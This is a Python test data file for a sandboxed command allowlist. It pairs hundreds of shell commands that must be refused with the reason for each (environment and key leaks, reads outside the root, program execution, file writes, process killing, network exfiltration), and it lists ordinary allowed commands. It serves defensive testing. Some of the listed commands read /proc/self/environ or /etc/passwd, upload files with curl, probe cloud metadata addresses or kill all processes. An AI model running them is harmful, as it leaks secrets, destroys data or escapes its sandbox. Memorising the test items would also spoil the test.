"""Commands that try to get more from an allowlisted program than reading under the root, and ordinary commands.

Each attempt is a command and the reason why it must be refused. `OUTSIDE` stands for a folder outside of the root.
"""

ENVIRONMENTS = "shows the environment of processes, which holds keys"
RUNS = "runs a program"
READS_PROGRAM = "reads a program from standard input"
WRITES = "writes a file"
OUTSIDE_ROOT = "reads outside of the root"
ORACLE = "answers questions about the secrets in other command lines"
SIGNALS = "signals a process that is no session of the caller"
CHANGES = "changes the system or the repository"
NETWORK = "reaches another address, or sends a file"

_BY_REASON: dict[str, str] = {
    ENVIRONMENTS: """
        ps e
        ps axe
        ps auxe
        ps eaux
        ps auxeww
        ps ewww
        ps ae
        ps xe
        ps ue
        ps ax e
        ps aux e
        ps e 1
        ps 1 e
        ps -axe
        ps -auxe
        ps -eaux
        ps -auxeww
        ps -axeww
        ps -axwwe
        ps -aex
        ps -xe
        ps -ea -x
        ps -a -x -e
        ps -ef e
        ps -ef x
        ps -ef u
        ps -ef aux
        ps -ef -u
        ps -ef -U
        ps -ef -Z
        ps -ef -ef
        ps -e -x
        ps -eu
        ps -eux
        ps -ewwx
        ps -E
        ps -Eax
        ps -efE
        ps -o environ
        ps -o pid,environ
        ps -opid,environ
        ps -o env
        ps -eo pid,env
        ps axo pid,environ
        ps --format pid,environ
        ps --format=environ
        ps O e
        ps -- e
        ps -- axe
        ps 'ax e'
        ps '-ef e'
        ps '-ef x'
        ps 'a' 'x' 'e'
        ps '' e
        ps "a"x"e"
        ps ax'e'
        ps ax\\e
        ps -ef --sort=bogus
        ps -ef --forest --bogus
        ps -ef --sor=pid
        ps --environment
        ps V e
        ps L e
        ps -M e
        ps se
        ps ve
        ps Xe
        ps je
        ps fe
        ps -C bash e
        ps p 1 e
        ps t e
        ps U root e
        ps --pid 1 e
        ps -p 1 e
        ps -p 1e
        ps -N e
        ps --cols 1000 axe
        ps --info
        pgrep --env OPENAI_API_KEY
        pgrep -a --env=A=sk-
        env -0
        env --null
        env -u A
        ps faux e
        ps -w -w e
        ps -T e
        ps aeux
        ps -eocmd,environ
        ps --ppid 1 -o environ
        ps --deselect e
        ps -O environ
        ps o environ
    """,
    ORACLE: """
        pgrep -f sk-proj-a
        pgrep -af sk-
        pgrep -fc sk-proj-a
        pgrep --full sk-proj-a
        pgrep --ful sk-proj-a
        pgrep -lf sk-
        ps aux --sort=args
        ps aux --sort=cmd
        ps -C sk-proj
        ps ax k args
        ps axo pid,cmd:20
        pgrep -F notes.txt
        pgrep --signal 9 cat
        pgrep -L -F notes.txt
        pgrep --logpidfile x
        pgrep -lfx .
        pgrep -u root -f sk
        pgrep -r S -f x
        ps k args
        ps aux --sort command
        ps -ef --sort=+args
    """,
    READS_PROGRAM: """
        python3 -v
        python -v
        python3 -vv
        python3 -vV
        python3 -i
        python3 -
        python3 -u -
        python3 -q
        python3 -s
        python3 -S -
        python3 -x
        python3 --
        python3
        python
        python3 -V -
        python3 -V -i
        python3 --version -
        python3 '-v '
        python3 ''
        node -i
        node --interactive
        node -
        node --
        node ''
        node
        node -v -
        node -v -i
        node -r ./x -v
        node --version -
        node -p 1
        node --check -
        node --inspect
        node --input-type=module
        npx
        npx -
        npm -v -
        npm
        npm exec
        npm repl
        elixir -
        elixir
        elixir --version -e 1
        elixir -v -r x.exs
        elixir --no-halt
        mix
        mix -
        mix --version run
        mix -v -
        curl -K -
        file -f -
        find -files0-from -
        wc --files0-from=-
        du --files0-from=-
        tree --fromfile .
        tree --fromfile=.
        grep -f - notes.txt
        rg -f - .
        git rev-list --stdin
        git log --stdin
        git diff-tree --stdin
        git cat-file --batch
        git cat-file --batch-command
        git cat-file --batch-check
        git name-rev --stdin
        git name-rev --annotate-stdin
        git rev-parse --parseopt
        git ls-files --pathspec-from-file=-
        git log --stdin -p
        git name-rev --refs=x --stdin
        git for-each-ref --stdin
        git check-ignore --stdin -v
        git show-ref --exclude-existing
        git cat-file --buffer --batch
        git check-attr --stdin -a
        grep -z -f /proc/self/environ one
        git grep -f/dev/stdin
    """,
    RUNS: """
        python3 -Vc 1
        python3 -Vm http.server
        python3 -W error -V
        python3 -X importtime
        node -ve 1
        node -vp 1
        node --version --eval 1
        npm -v --prefix=x
        npm --version --node-options=--require=./x
        npx --version cowsay
        npx -p x -c y
        find . -exec id +
        find . -execdir id +
        find . -okdir id +
        find . -o -exec id +
        find . -name x -exec id +
        find . -newer -exec
        find . -name -exec id +
        find . -printf -exec id +
        find -exec
        fd -x id
        fd -uxid
        fd -HIXid
        fd --exec=id
        fd --exec id
        fd --exec-b id
        fd -l x
        fd --list-details
        rg --pre ./x y
        rg --pre=./x y
        rg --pre-glob=x y
        rg --hostname-bin=./x y
        rg -z y
        rg -iz y
        rg --search-zip y
        ag --pager ./x y
        ag --pager=./x y
        ag --page=./x y
        file -z x
        file -iz x
        file --uncompress x
        git -c alias.x=y x
        git -calias.x=y x
        git -c core.fsmonitor=./x status
        git -c core.sshCommand=./x ls-remote
        git --config-env=core.pager=HOME log
        git --exec-path=x status
        git --exec-path x status
        git -p log
        git --paginate log
        git --attr-source=HEAD log
        git log --show-signature
        git log --show-sig
        git log --format=%G
        git log --pretty=%GG
        git show --format=%GK
        git log --format %GS
        git log --ext-diff
        git log -p --ext-diff
        git log --ext
        git diff --textconv
        git diff --text-conv
        git show --textc HEAD
        git blame --textconv notes.txt
        git grep --textconv one
        git grep -O one
        git grep -Oless one
        git grep -lOless one
        git grep --open-files-in-pager one
        git grep --open-files=less one
        git grep --recurse-submodules one
        git cat-file --textconv HEAD
        git cat-file --filters HEAD
        git cat-file --textc HEAD
        git diff --submodule=diff
        git diff --submodule
        git log -p --submodule=log
        git status --ignore-submodules=none
        git diff --ignore-submodules=none
        git describe --dirty
        git describe --broken
        git whatchanged
        git difftool -y
        git mergetool
        git bisect run x
        git rebase -x id
        git submodule foreach id
        git filter-branch
        git for-each-repo --config=x status
        git hook run pre-commit
        git maintenance run
        git fsmonitor--daemon start
        git credential fill
        git var GIT_EDITOR
        git help -w log
        git web--browse x
        git instaweb
        git archive --format=tgz HEAD
        git upload-pack .
        git fetch ext::id
        git ls-remote ext::id
        git clone ext::id
        git commit --amend
        git verify-commit HEAD
        git verify-tag v1
        git tag -v v1
        git interpret-trailers
        git stash show -p
        git stash list -p
        git worktree list --x
        git LOG
        git './log'
        git !id
        ip netns exec x id
        ip -n x link
        ip -netns x link
        ip vrf exec x id
        which -x
        git log --alternate-refs
        git rev-list --alternate-refs HEAD
        git log --format=%C(auto)%GP
        git show --pretty=format:%-GG
        git log --pretty=tformat:%h%x20%GF
        git log '--format=% GS'
        git log --no-walk=unsorted --show-signature
        git diff --stat --textconv HEAD
        git grep -nOvim one
        git rev-parse --git-path hooks --exec
        git describe --debug --broken
        git branch --list --edit-description
        git diff-tree -p --ext-diff HEAD
        git diff-index --textconv -p HEAD
        git merge-file a b c
        git send-pack .
        git receive-pack .
        git http-backend
        git shell -c x
        git column --command=x
        git remote get-url --exec=x origin
        rg --pre=cat --pre-glob=x one
        rg -uuuz one
        rg --engine=auto --pre=id one
        ag --search-zip one
        ag -z one
        fd . -X id
        fd --threads=1 --exec=id
        fd --batch-size 1 -X id
        find -O3 . -exec id
        find -D exec .
        find . -regextype posix-egrep -exec id
        file -Z notes.txt
        env -S id
        env --split-string=id
        env -C .. ls
        node --run build
        node --test
        node --env-file=.env -v
        node --import ./x.mjs -v
        node -C x -v
        node inspect
        npm --version --script-shell=./x
        npm -v -g
        npx --call id
        python3 -VV
        python3 -Xfrozen_modules=off -V
        elixir -pr x
        elixir --erl x --version
        mix do --version
        /usr/bin/git status
        timeout 1 ls
        busybox sh
        sort --compress-program=id notes.txt
        tar --checkpoint-action=exec=id cf x .
        make
    """,
    WRITES: """
        git log --output=x
        git log --output x
        git log --outpu=x
        git diff --output=x
        git show --output=x
        git diff-tree --output=x HEAD
        git diff-index --output=x HEAD
        git grep --output=x y
        git stash list --output=x
        git reflog --output=x
        git shortlog --output=x
        git shortlog --outp=x
        git blame --output=x notes.txt
        git bundle create x HEAD
        git archive -o x HEAD
        git format-patch -1
        git update-index --refresh
        git update-ref HEAD x
        git hash-object -w notes.txt
        git symbolic-ref HEAD refs/heads/x
        git notes add -m x
        tree -o x
        tree -ao x
        tree -Lo 1 x
        tree -Po x y
        tree -Io x y
        tree --output=x
        tree -R -L 1
        find . -fprint x
        find . -fprint0 x
        find . -fprintf x y
        find . -fls x
        find . -delete
        find . -depth -delete
        find . -name x -o -delete
        find . -mtime -delete
        find . -perm -delete
        find . -size -1 -delete
        curl -o x https://example.com
        curl -ox https://example.com
        curl -sox https://example.com
        curl --out x https://example.com
        curl --output=x https://example.com
        curl -OJ https://example.com/x
        curl --remote-name https://example.com/x
        curl --output-dir x https://example.com
        curl --create-dirs -o a/b https://example.com
        curl --stderr x https://example.com
        curl --trace-ascii x https://example.com
        curl --libcurl x https://example.com
        curl --etag-save x https://example.com
        curl --hsts x https://example.com
        curl --alt-svc x https://example.com
        curl -c x https://example.com
        wget -O x https://example.com
        wget --version https://example.com
        mkdir -m 777 x
        mkdir -pm777 x
        mkdir --mod=777 x
        mkdir -Z x
        touch -r notes.txt x
        touch -d yesterday x
        touch -t 202001010000 x
        touch .git/x
        touch .env
        mkdir .git/hooks
        mkdir -p .git/hooks
        git stash create
        git stash store x
        git reflog show --output=x
        git reflog main --output=x
        git worktree lock x
        git symbolic-ref -d HEAD
        git symbolic-ref -m x HEAD refs/heads/x
        git branch --contains HEAD new
        git tag --contains HEAD new
        git tag --points-at HEAD -d v1
        git remote get-url origin x
        git remote get-url --push --add
        git read-tree HEAD
        git commit-tree HEAD
        git pack-objects x
        git unpack-file HEAD
        tree -H . -o x
        tree --charset=x -o y
        find . -printf %p -fprintf x y
        touch -h links
        touch --time=access x
        touch src/.env
        touch .git
        mkdir x.git
        mkdir .ssh
        mkdir links/x
        curl --dump-header x https://example.com
        curl --remove-on-error -o x https://example.com
        curl -fsSLO https://example.com
        npm config set x y
    """,
    OUTSIDE_ROOT: """
        cat OUTSIDE/secret.txt
        cat ../outside/secret.txt
        cat ./../outside/secret.txt
        cat notes.txt ../outside/secret.txt
        cat -- ../outside/secret.txt
        cat -n ../outside/secret.txt
        cat ~root/x/../../../../etc/passwd
        cat /proc/self/environ
        cat /proc/1/environ
        cat //proc/self/environ
        cat /dev/fd/0
        cat /dev/stdin
        head -c5 OUTSIDE/secret.txt
        head -n1 -- OUTSIDE/secret.txt
        tail -f OUTSIDE/secret.txt
        tail --follow=name OUTSIDE/secret.txt
        tail -n +1 OUTSIDE/secret.txt
        grep -fOUTSIDE/secret.txt x
        grep -f OUTSIDE/secret.txt x notes.txt
        grep --file=OUTSIDE/secret.txt notes.txt
        grep --fil=OUTSIDE/secret.txt notes.txt
        grep -rfx y .
        grep -R secret .
        grep -nR secret .
        grep --dereference-recursive secret .
        grep --dereference secret .
        grep --exclude-from=OUTSIDE/secret.txt x .
        grep --exclude-f=x y .
        grep x OUTSIDE/secret.txt
        rg --file=x y
        rg -fx y
        rg -Lx y
        rg -L y
        rg --follow y
        rg --ignore-file=OUTSIDE/secret.txt x
        rg x OUTSIDE
        fd -L x
        fd -HL x
        fd --follow x
        fd --search-path OUTSIDE x
        fd --search-path=OUTSIDE x
        fd --base-directory=OUTSIDE x
        fd --base-directory OUTSIDE
        fd -C OUTSIDE x
        fd --ignore-file x
        ag -f x
        ag --follow x
        ag -p OUTSIDE/secret.txt x
        ag --path-to-ignore=OUTSIDE/secret.txt x
        ls -L links
        ls -lL .
        ls -H links
        ls --dereference .
        ls --deref .
        ls --dereference-command-line links
        ls OUTSIDE
        ls -R OUTSIDE
        find OUTSIDE
        find -L .
        find -H links
        find . -follow
        find . -newer OUTSIDE/secret.txt
        find . -samefile OUTSIDE/secret.txt
        find -files0-from notes.txt
        find . -anewer OUTSIDE/secret.txt
        du -L .
        du -aL .
        du -D links
        du -H links
        du --dereference .
        du --dereference-args links
        du -X OUTSIDE/secret.txt .
        du --exclude-from=OUTSIDE/secret.txt .
        du --files0-from=notes.txt
        du OUTSIDE
        tree -l
        tree -al
        tree OUTSIDE
        tree --fromtabfile
        tree --gitfile=OUTSIDE/secret.txt
        tree --infofile=OUTSIDE/secret.txt
        wc --files0-from=notes.txt
        wc --files0=notes.txt
        wc -l OUTSIDE/secret.txt
        stat -L links
        stat OUTSIDE/secret.txt
        file -f notes.txt
        file -m OUTSIDE/secret.txt notes.txt
        file --magic-file=OUTSIDE/secret.txt notes.txt
        file -L links
        file -s /dev/sda
        date -f notes.txt
        date --file=notes.txt
        date -r OUTSIDE/secret.txt
        date --reference=OUTSIDE/secret.txt
        df OUTSIDE
        which ../outside/secret.txt
        which OUTSIDE/secret.txt
        hostname -F notes.txt
        git -C .. status
        git -C OUTSIDE status
        git -COUTSIDE status
        git --git-dir=OUTSIDE status
        git --git-dir OUTSIDE status
        git --work-tree=OUTSIDE status
        git --namespace=x status
        git --bare log
        git --super-prefix=x status
        git diff --no-index notes.txt notes.txt
        git diff --no-ind notes.txt notes.txt
        git diff OUTSIDE/secret.txt notes.txt
        git grep --no-index x
        git grep -f notes.txt
        git grep -fOUTSIDE/secret.txt
        git blame --contents OUTSIDE/secret.txt notes.txt
        git blame --contents=OUTSIDE/secret.txt notes.txt
        git blame --conten=OUTSIDE/secret.txt notes.txt
        git blame -S OUTSIDE/secret.txt notes.txt
        git blame --ignore-revs-file=OUTSIDE/secret.txt notes.txt
        git diff -OOUTSIDE/secret.txt
        git log -p -O notes.txt
        git ls-files -X OUTSIDE/secret.txt
        git ls-files -XOUTSIDE/secret.txt
        git ls-files --exclude-from=OUTSIDE/secret.txt
        git ls-files --exclude-per-directory=x
        git ls-files --recurse-submodules
        git rev-parse --resolve-git-dir OUTSIDE
        git log -- ../outside
        git log -L1,2:../outside/secret.txt
        git log --pathspec-from-file=OUTSIDE/secret.txt
        git config -f OUTSIDE/secret.txt -l
        git config --file=OUTSIDE/secret.txt -l
        git check-ignore --stdin
        git diff ../root src
        git diff --text src/../../root src
        git diff notes.txt ../root/notes.txt
        git diff -- ../root src
        git diff --relative=../.. --no-index a b
        git diff -O/dev/stdin
        git blame --reverse --contents=../x notes.txt
        git rev-list --filter=sparse:path=/etc/passwd HEAD
        git cat-file blob --filters
        git check-ignore ../outside/x
        git show-ref ../outside
        rg one -- OUTSIDE
        rg --ignore-file ../x one
        grep -d recurse one .
        grep --directories=recurse one .
        grep -nrR one .
        grep one -- ../outside/secret.txt
        find . -newerXY OUTSIDE/secret.txt
        find . -newerat ../outside/secret.txt
        find . -xtype l -follow
        find links/.
        ls -RL .
        ls /proc/self/fd
        cat links/../../outside/secret.txt
        cat /dev/../etc/passwd
        tail --max-unchanged-stats=1 --follow=name /etc/passwd
        stat --file-system /etc
        wc --total=always --files0-from=x
        file --files-from notes.txt
        file -C -m notes.txt
        tree --fromtabfile notes.txt
        tree --hintro=x
        du --inodes -L .
        df --output=x /etc/passwd
        which --read-functions
        cat .ssh/id
        grep -r x src/.AWS
        head .\u017fsh/id
    """,
    SIGNALS: """
        kill 1
        kill -9 1
        kill -KILL 1
        kill -1
        kill -9 -1
        kill '-1 5'
        kill '-9 12345'
        kill -9 '-1'
        kill -- -1
        kill -9 -- -1
        kill -s KILL 1
        kill -sKILL 1
        kill -n 9 1
        kill --signal=KILL 1
        kill 0
        kill 1 2 3
        kill -9 0
        kill -15 00001
        kill --timeout 1 KILL 1
        kill -q 9 1
        kill bash
        kill +1
        kill 1.0
        kill '1 -1'
        kill ' 1'
        kill 9999999999
        pkill cat
        pkill -f cat
        pkill -9 -u root
        pkill --help
        kill -TERM -- -1
        kill -s 9 1
        kill 1 -9
        kill %1
        pkill -TERM x
    """,
    CHANGES: """
        date -s 2020-01-01
        date -s2020-01-01
        date -us2020-01-01
        date --set=2020-01-01
        date --set 2020-01-01
        date --se=2020-01-01
        date 010100002020
        date -u 010100002020
        date -d now -s 2020-01-01
        date -d -d -s+1day
        date -d -s 2020-01-01
        date -d -- 010100002020
        date -- 010100002020
        date -n 2020
        hostname evil
        hostname -b evil
        hostname -F x
        hostname -y evil
        hostname -- evil
        ip link set lo down
        ip addr add 10.0.0.1/8 dev lo
        ip addr flush dev lo
        ip route del default
        ip route show -batch x
        ip -batch x
        ip -b x
        ip -force -batch x
        ip -B x
        ip addr show -b x
        ip 'addr show'
        ip link show -batch x
        ifconfig lo down
        ifconfig 'lo down'
        ifconfig lo 10.0.0.1
        ifconfig -a down
        git branch new
        git branch -D main
        git branch -f main HEAD
        git branch -m old new
        git branch --edit-description
        git branch -u x
        git branch -avd main
        git branch --unset-upstream
        git branch --del main
        git tag new
        git tag -d old
        git tag -n1d old
        git tag -f old
        git remote add x y
        git remote -v add x y
        git remote set-url x y
        git remote update
        git remote show origin
        git remote prune origin
        git stash
        git stash drop
        git stash list drop
        git 'stash list'
        git reflog expire --all
        git reflog delete x
        git worktree add x
        git worktree prune
        git config alias.x y
        git config --global alias.x y
        git gc
        git prune
        git replace x y
        git clean -f
        git reset --hard
        git checkout -- .
        git rm x
        git mv x y
        git init x
        git rev-parse --sq-quote x
        free -x
        uptime -x
        uname --set
        df --sync
        ip link set eth0 up
        ip route flush all
        ip -all netns exec id
        ip link show up -b x
        ifconfig eth0 promisc
        date +%s -s now
        date --resolution -s x
        hostname -I x
        git reflog exists x
        git worktree repair
        git remote set-head origin -a
    """,
    NETWORK: """
        curl http://127.0.0.1:1/
        curl http://localhost:1/
        curl http://169.254.169.254/
        curl http://0/
        curl https://example.com http://127.0.0.1/
        curl https://example.com --next http://127.0.0.1/
        curl -:https://example.com
        curl --url http://127.0.0.1/
        curl --url=http://127.0.0.1/
        curl -x http://127.0.0.1:1 https://example.com
        curl -xhttp://127.0.0.1:1 https://example.com
        curl --proxy=http://127.0.0.1:1 https://example.com
        curl --preproxy http://127.0.0.1:1 https://example.com
        curl --socks5 127.0.0.1 https://example.com
        curl --resolve example.com:443:127.0.0.1 https://example.com
        curl --connect-to ::127.0.0.1:1 https://example.com
        curl --unix-socket x https://example.com
        curl --abstract-unix-socket x https://example.com
        curl --interface lo https://example.com
        curl --dns-servers 127.0.0.1 https://example.com
        curl --doh-url https://127.0.0.1 https://example.com
        curl -L https://example.com
        curl -sL https://example.com
        curl -sSLf https://example.com
        curl --location-trusted https://example.com
        curl --proto =all file:///etc/passwd
        curl file:///etc/passwd
        curl FILE:///etc/passwd
        curl dict://127.0.0.1/
        curl scp://127.0.0.1/x
        curl -d @notes.txt https://example.com
        curl -d@notes.txt https://example.com
        curl --data @notes.txt https://example.com
        curl --data=@notes.txt https://example.com
        curl --data-binary @notes.txt https://example.com
        curl --data-urlencode x@notes.txt https://example.com
        curl --json @notes.txt https://example.com
        curl -F x=@notes.txt https://example.com
        curl -T notes.txt https://example.com
        curl -H @notes.txt https://example.com
        curl -b notes.txt https://example.com
        curl -E notes.txt https://example.com
        curl --cert notes.txt https://example.com
        curl --cacert notes.txt https://example.com
        curl --netrc-file notes.txt https://example.com
        curl -n https://example.com
        curl -K notes.txt https://example.com
        curl --config notes.txt https://example.com
        curl -w @notes.txt https://example.com
        curl -k https://example.com
        curl --insecure https://example.com
        curl -X DELETE https://example.com
        curl -XDELETE https://example.com
        curl -X PUT https://example.com
        curl -A -o https://example.com x
        curl -- https://example.com
        curl -V https://example.com
        wget https://example.com
        wget --post-file=notes.txt https://example.com
        git ls-remote https://example.com
        git fetch
        git pull
        git push
        git remote -v update
        df -x nfs -t nfs --sync
        curl http://example.com@127.0.0.1/
        curl http:127.0.0.1
        curl https:\\\\127.0.0.1
        curl http://[::ffff:127.0.0.1]/
        curl http://192.0.0.192/
        curl http://168.63.129.16/
        curl --url-query @notes.txt https://example.com
        curl --variable x@notes.txt https://example.com
        curl --expand-url https://example.com
        curl -G -d @x https://example.com
        curl --haproxy-protocol https://example.com
        curl --proxy1.0 127.0.0.1 https://example.com
        curl --negotiate -u : https://example.com
        curl --retry 1000 https://example.com
        curl -X CONNECT https://example.com
        curl -H 'x: y' -H @notes.txt https://example.com
        curl ipfs://x
        git ls-remote --upload-pack=id .
    """,
}

ATTEMPTS: list[tuple[str, str]] = [
    (line.strip(), reason) for reason, commands in _BY_REASON.items() for line in commands.splitlines() if line.strip()
]

_ORDINARY = """
ls
ls -la
ls -l --color=never
ls -lhtr src
ls -1 -- src
ls -w 80
cat notes.txt
cat -n notes.txt
cat -A -- notes.txt
grep one notes.txt
grep -rn one .
grep -rnE -A2 -B 2 one .
grep -ie one notes.txt
grep -c -m1 one notes.txt
grep --include=notes.txt -rl one .
grep --exclude-dir=src -r one .
grep --max-count=1 one notes.txt
grep -2 one notes.txt
head notes.txt
head -5 notes.txt
head -n 1 notes.txt
head -n -1 notes.txt
head -n1 notes.txt
head --lines=1 notes.txt
head -qc 3 notes.txt
tail -n +2 notes.txt
tail -n5 notes.txt
tail -5 notes.txt
tail --lines 1 notes.txt
echo hello 'two words' -n
date
date -u
date +%F
date -u +%s
date -Iseconds
date -d yesterday +%F
date --date='2 days ago'
date -u --rfc-3339=seconds
pwd
whoami
env
find . -name notes.txt
find . -type f -mtime -3
find src -maxdepth 2 -size +10k -print
find . -type f -not -name x -o -type d -ls
find . -newer notes.txt -printf %p
find . -perm -600 -user root
wc -l notes.txt
wc -lw notes.txt
wc --lines notes.txt
stat notes.txt
stat -c %s notes.txt
stat --format=%n notes.txt
which git
which -a ls
mkdir -p a/b
mkdir --parents --verbose a/b
touch a.txt
touch -c notes.txt
ps
ps aux
ps -aux
ps auxww
ps axf
ps ax
ps -ef
ps -e
ps -A
ps -eF
ps -ely
ps -ef --forest
ps aux --sort=-%cpu
ps aux --no-headers
ps -o pid,cmd -p 1
ps -eo pid,ppid,%cpu,%mem,comm
ps axo pid,comm
ps -p 1
ps -eo pid,etime,args --sort=-rss
pgrep bash
pgrep -l bash
pgrep -a -x bash
pgrep -c bash
kill -l
node --version
node -v
npm --version
python3 --version
python3 -V
df -h .
df
df -hT
du -sh .
du -d 1 src
du -h --max-depth=1 .
du --exclude=x -a .
free
free -h
free -m
uptime
uptime -p
uname -a
uname -sr
hostname
hostname -f
ip addr
ip -br addr show
ip route show
ip -4 addr show dev lo
ifconfig
ifconfig -a
ifconfig lo
git --version
git status
git status --short
git status -sb
git status --porcelain
git status --porcelain=v2 --branch
git log
git log --oneline -5
git log -n 3 --stat
git log -n3 -p
git log --oneline --graph --all --decorate
git log --format=%H -1
git log --pretty=oneline --since=yesterday
git log --since '2 weeks ago' --author one
git log -S one -- notes.txt
git log --follow notes.txt
git log --grep=one -i
git log -L 1,2:notes.txt
git diff
git diff --stat
git diff HEAD
git diff --cached
git diff --name-only HEAD -- notes.txt
git diff -U5 -w
git diff --word-diff
git show
git show HEAD
git show --stat HEAD
git show HEAD:notes.txt
git show --name-only --format=%s HEAD
git branch
git branch -a
git branch -vv
git branch --show-current
git tag
git tag -l
git tag --sort=-creatordate
git remote
git remote -v
git stash list
git reflog
git worktree list
git rev-parse HEAD
git rev-parse --abbrev-ref HEAD
git rev-parse --short HEAD
git rev-parse --show-toplevel
git ls-files
git ls-files -o --exclude-standard
git ls-files -m
git ls-tree -r --name-only HEAD
git blame notes.txt
git blame -L 1,2 notes.txt
git blame -w --porcelain notes.txt
git shortlog -sn HEAD
git describe --always
git describe --tags --always
git cat-file -p HEAD
git cat-file -t HEAD
git rev-list --count HEAD
git rev-list -n 1 HEAD
git grep one
git grep -n -i one
git grep -ne one
git grep -l one HEAD
git merge-base HEAD HEAD
git count-objects -vH
git for-each-ref --sort=-committerdate --count=3
git diff-tree --no-commit-id --name-only -r HEAD
git diff-index HEAD
git name-rev HEAD
git shortlog -s -n --all
git branch -a --contains HEAD
git tag --points-at HEAD
git reflog -5
git reflog show -3 main
git symbolic-ref --short HEAD
git show-ref --tags
git check-ignore -v ignored.txt
git grep -n one -- src
git diff v1 HEAD
git diff v1 -- notes.txt
git diff src/one.py
"""
ORDINARY = _ORDINARY.strip().splitlines()

# Allowed; run by hand in a repository, because starting each takes a twentieth of a second.
_MORE_ORDINARY = """
ls -lah
ls -R src
ls -a1
ls -lt --reverse
ls --group-directories-first -l
ls -l notes.txt src/one.py
ls ./src
cat src/one.py notes.txt
cat ./notes.txt
cat -b notes.txt
head -n 20 src/one.py
head -20 notes.txt src/one.py
head -c 100 notes.txt
tail -n 50 notes.txt
tail -c 10 notes.txt
tail -n 1 notes.txt src/one.py
wc -l notes.txt src/one.py
wc -c notes.txt
grep -n one src/one.py
grep -in ONE notes.txt
grep -rl one src
grep -rn --include=one.py one src
grep -rIn --exclude-dir=.git one .
grep -w one notes.txt
grep -A 3 -B 3 one notes.txt
grep -C2 one notes.txt
grep -c one notes.txt
grep -v two notes.txt
grep -o one notes.txt
grep -rn -e one -e two src
grep -F one notes.txt
grep -rnw src -e one
grep --color=never -n one notes.txt
grep -P ^one notes.txt
grep -h one notes.txt
find . -name notes.txt -not -path ./.git
find . -maxdepth 1 -type d
find src -type f -name one.py
find . -type f -size -1M
find . -mmin -60 -type f
find . -type f -newer notes.txt -print
find . -iname NOTES.txt
find src -empty
find . -path ./.git -prune -o -type f -print
stat -c %y notes.txt
du -sh src
du -ah src
du -h -d1
df -h
git status -s
git status -uno
git status --porcelain -b
git log --oneline
git log --oneline -10
git log -1
git log -3 --stat
git log --oneline --decorate -n 5
git log --graph --oneline --all
git log --author=a --oneline
git log --since=1.week --oneline
git log -p -1
git log -p -- notes.txt
git log --oneline -- src
git log --oneline main
git log --oneline v1..HEAD
git log --format=%h -5
git log --pretty=format:%h%x20%an%x20%s -5
git log --name-only -1
git log --name-status --oneline -2
git log --diff-filter=A --oneline
git log --all --oneline --follow notes.txt
git log -G one --oneline
git log -Sone --oneline
git log --reverse --oneline
git log --merges
git log --no-merges --oneline -3
git log --first-parent --oneline
git log --date=short --format=%ad
git log --date=iso -1
git log --abbrev-commit -1
git log HEAD~0 -1
git diff --name-only
git diff --name-status
git diff --shortstat
git diff --numstat HEAD
git diff HEAD -- src
git diff v1..HEAD
git diff main...HEAD
git diff --staged
git diff --staged --stat
git diff -w
git diff -U0
git diff --color=never
git diff --no-color HEAD
git diff --word-diff=plain
git diff --diff-filter=M --name-only
git diff --exit-code
git diff --check
git diff --minimal --histogram
git diff -M HEAD
git diff --ignore-all-space
git show HEAD:src/one.py
git show HEAD --stat
git show --name-only HEAD
git show -s --format=%B HEAD
git show --no-patch HEAD
git show v1
git show --oneline --name-status HEAD
git branch -r
git branch --list
git branch -v
git branch --merged
git tag -n
git tag --list
git tag -n1
git rev-parse --git-dir
git rev-parse --is-inside-work-tree
git rev-parse HEAD~0
git rev-parse --verify main
git rev-parse --abbrev-ref --symbolic-full-name HEAD
git ls-files src
git ls-files --others --exclude-standard
git ls-files -c -o --exclude-standard
git ls-files --stage
git ls-tree HEAD
git ls-tree -r HEAD --name-only
git ls-tree --name-only HEAD src/
git blame -L1,1 src/one.py
git blame -e notes.txt
git blame --date=short notes.txt
git shortlog -sne HEAD
git describe --tags
git describe --tags --abbrev=0
git grep -c one
git grep -w one
git grep --line-number one HEAD
git grep -i -e ONE --and -e one
git grep -l -F one src
git grep -E one
git merge-base main HEAD
git merge-base --is-ancestor v1 HEAD
git rev-list --count main
git rev-list --count v1..HEAD
git rev-list --all --max-count=1
git cat-file -p HEAD:notes.txt
git cat-file -s HEAD
git reflog show
git for-each-ref
git for-each-ref refs/heads
git show-ref
git symbolic-ref HEAD
git check-ignore notes.txt
git diff-tree --no-commit-id -r HEAD
git name-rev --name-only HEAD
ps -eo pid,comm
ps -p 1 -o comm
pgrep python
pgrep -x bash
which python3
which -a python3
npm -v
date -u +%Y-%m-%dT%H:%M:%SZ
date +%s
mkdir -p build/x
touch build/x/y.txt
echo hello
ip a
ip route
"""

# Allowed and of programs that not every machine has, or that need a network.
ALSO_ALLOWED = (
    """
rg one
rg -n one src
rg -il one
rg --hidden -g src one
rg -C 2 -e one -e two .
rg --type py --count one
fd notes
fd -H -t f notes
fd -e py --max-depth 2
fd --type f . src
ag one
ag -il one src
ag -C 2 --hidden one
tree
tree -L 2
tree -a -I node_modules -L 2
tree -ad src
file notes.txt
file -bi notes.txt
file --mime-type notes.txt
npx --version
elixir --version
mix --version
wget --version
curl --version
curl -s https://example.com/page
curl -sSf -H 'Accept: text/html' -m 5 https://example.com
curl -X POST -d hello https://example.com
curl -I https://example.com
file -b notes.txt
file notes.txt src/one.py
git remote get-url origin
git remote get-url --push origin
""".strip().splitlines()
    + _MORE_ORDINARY.strip().splitlines()
)
